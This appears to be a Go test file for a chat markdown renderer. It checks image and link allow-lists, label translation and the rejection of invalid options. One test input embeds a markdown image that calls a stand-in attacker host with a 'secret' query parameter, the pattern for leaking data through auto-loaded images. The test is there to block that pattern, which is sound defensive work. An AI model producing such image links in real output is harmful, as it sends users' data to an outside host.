package markdown_test

import (
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/vcpgo/vcp/chat/markdown"
	"github.com/vcpgo/vcp/internal/requesttest"
	"github.com/vcpgo/vcp/parser"
	"github.com/vcpgo/vcp/protocol"
)

func TestImagesLoadOnlyIfAllowed(t *testing.T) {
	const in = "![a *b*](https://img.example/1.png) ![c](https://evil.example/?q=secret) ![d](data:image/png;base64,AA==) ![e](/x.png)"
	o := markdown.Options{Protocols: protocols}
	r, err := markdown.New(o)
	require.NoError(t, err)
	require.NotContains(t, string(r.AppendText(nil, in)), "<img")
	o.AllowImage = func(u *url.URL) bool { return u.Host == "img.example" }
	r, err = markdown.New(o)
	require.NoError(t, err)
	page := string(r.AppendText(nil, in))
	require.Equal(t, 1, strings.Count(page, "<img"), page)
	require.Contains(t, page,
		`<img src="https://img.example/1.png" alt="a b" loading="lazy" referrerpolicy="no-referrer">`)
}

func TestLinksCanBeForbidden(t *testing.T) {
	allow := func(u *url.URL) bool { return u.Host == "example.com" }
	r, err := markdown.New(markdown.Options{Protocols: protocols, AllowLink: allow})
	require.NoError(t, err)
	const in = "[a](https://example.com/1) [b](https://evil.example/2) <https://evil.example/3> ![c](https://evil.example/4)"
	page := string(r.AppendText(nil, in))
	require.Equal(t, 1, strings.Count(page, "<a "), page)
	require.Contains(t, page, "evil.example/2", "people see the address of a forbidden link")
}

func TestLabelsAreTranslated(t *testing.T) {
	known := map[string]bool{}
	for _, word := range markdown.Labels() {
		known[word] = true
	}
	r, err := markdown.New(markdown.Options{Protocols: protocols, Label: func(word string) string {
		if known[word] {
			return "译" + word
		}
		return word
	}})
	require.NoError(t, err)
	card := readPage(t, r.AppendReply(nil, "", requesttest.Text(t, protocols[0], "x"), protocol.FinishStop))[0]
	require.Equal(t, "译Request x: 译ready", card.Label)
	require.Equal(t, "ready", card.Status, "attributes for scripts are not translated")
}

func TestWrongOptionsAreRefused(t *testing.T) {
	for name, o := range map[string]markdown.Options{
		"no protocol":       {},
		"a nil protocol":    {Protocols: []protocol.Protocol{nil}},
		"an unknown repair": {Protocols: protocols[:1], Reading: parser.Options{Disabled: []string{"x"}}},
		"a negative limit":  {Protocols: protocols, MaxBytes: -1},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := markdown.New(o)
			require.Error(t, err)
			_, err = markdown.Extension(o)
			require.Error(t, err)
		})
	}
}
